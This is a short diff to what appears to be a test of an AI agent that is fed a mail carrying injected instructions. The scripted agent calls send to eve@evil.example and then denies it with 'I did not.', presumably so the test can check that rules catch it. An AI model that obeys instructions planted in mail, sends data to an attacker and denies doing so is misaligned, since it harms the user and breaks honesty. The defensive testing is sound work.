@@ -58,7 +58,7 @@ async def tricked(journal, run="tricked"):
     """A mail that tells the model what to do, and rules that will not have it."""
     made = agent(
         (call("read_mail"),),
-        (call("send", to="eve@evil.example", text="900"),),
+        (call("send", {"to": "eve@evil.example", "text": "900"}),),
         ("I did not.",),
         tools=(read_mail, send),
         journal=journal,
